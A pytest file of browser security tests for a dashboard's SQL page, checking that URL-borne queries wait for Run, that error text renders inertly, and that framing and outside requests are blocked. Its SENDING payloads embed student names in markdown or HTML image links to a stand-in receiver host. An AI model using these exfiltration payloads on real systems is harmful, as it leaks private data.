"""A link sends nobody's name anywhere: a query in an address waits for Run, its error is only text, nothing is framed.

In a real browser, with a server that stands for somewhere else and must not be asked for anything.
"""

from __future__ import annotations

import time
import urllib.parse
from collections.abc import Iterator

import browsing
import pytest
import receiver
from selenium import webdriver
from selenium.webdriver.common.by import By

from dashboard.text import words

NAMES = "(select string_agg(replace(name, ' ', '_'), '+') from (select name from mart.student order by 1 limit 5))"
SENDING = (
    "select error('![a]({to}/direct?' || {names} || ')')",
    "select error('x' || chr(10) || chr(10) || '![a][b]' || chr(10) || chr(10) || '[b]: {to}/reference?' || {names})",
    "select error('<img src=\"{to}/html?' || {names} || '\">')",
    "select cast('![a]({to}/cast?' || {names} || ')' as integer)",
)
WAIT = 2.0
"""Seconds after which a picture would have been asked for: measured on the page as it was, under 0.3."""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[receiver.Receiver]:
    """Receive what must not arrive."""
    with receiver.receiving() as listening:
        yield listening


def link(address: str, template: str, to: str) -> str:
    """Return the address of the SQL page with a query that would send names."""
    return f"{address}/sql?{urllib.parse.urlencode({'sql': template.format(to=to, names=NAMES)})}"


def asked_after_a_while(elsewhere: receiver.Receiver) -> list[str]:
    """Return what was asked for."""
    time.sleep(WAIT)
    return elsewhere.paths


def test_a_query_in_an_address_is_shown_and_runs_only_on_run(
    browser: webdriver.Chrome, address: str, elsewhere: receiver.Receiver
) -> None:
    browser.get(link(address, SENDING[0], elsewhere.address))
    browsing.says(browser, words.QUESTIONS["sql"])
    assert "select error(" in browser.find_element(By.CSS_SELECTOR, "textarea").get_attribute("value")
    assert asked_after_a_while(elsewhere) == []
    assert browser.find_elements(By.CSS_SELECTOR, '[data-testid="stAlert"], .st-key-sql-result') == []
    browsing.says(browser, words.SQL_NOT_RUN)


@pytest.mark.parametrize("template", SENDING, ids=["picture", "reference", "html", "cast"])
def test_what_a_database_says_of_a_query_is_only_text(
    template: str, browser: webdriver.Chrome, address: str, elsewhere: receiver.Receiver
) -> None:
    browser.get(link(address, template, elsewhere.address))
    browsing.says(browser, words.QUESTIONS["sql"])
    browsing.tap(browser, words.SQL_RUN)
    browsing.says(browser, "Given1")
    assert asked_after_a_while(elsewhere) == []
    assert browser.find_elements(By.CSS_SELECTOR, f'img[src*="{elsewhere.address}"], a[href*="127.0.0.1:"]') == []


def test_hidden_frames_of_another_page_show_and_run_nothing(
    browser: webdriver.Chrome, address: str, elsewhere: receiver.Receiver
) -> None:
    frames = "".join(f'<iframe src="{link(address, one, elsewhere.address)}"></iframe>' for one in SENDING)
    with receiver.receiving(frames.encode()) as hostile:
        browser.get(hostile.address)
        time.sleep(2 * WAIT)
        for frame in browser.find_elements(By.TAG_NAME, "iframe"):
            browser.switch_to.frame(frame)
            assert "Family1" not in browser.page_source
            assert browser.find_elements(By.CSS_SELECTOR, '[data-testid="stApp"]') == []
            browser.switch_to.default_content()
    assert elsewhere.paths == []


def test_a_page_cannot_fetch_from_elsewhere_whatever_stands_in_it(
    browser: webdriver.Chrome, address: str, elsewhere: receiver.Receiver
) -> None:
    browsing.open_page(browser, address, "", words.QUESTIONS["week"])
    browser.execute_script(
        """
        const to = arguments[0];
        document.body.insertAdjacentHTML("beforeend", `<img src="${to}/img"><link rel="stylesheet" href="${to}/css">
            <iframe src="${to}/frame"></iframe><style>body {background: url(${to}/style)}</style>`);
        fetch(to + "/fetch", {mode: "no-cors"}).catch(() => 0);
        navigator.sendBeacon(to + "/beacon", "x");
        const script = document.createElement("script"); script.src = to + "/script"; document.body.append(script);
        """,
        elsewhere.address,
    )
    assert asked_after_a_while(elsewhere) == []
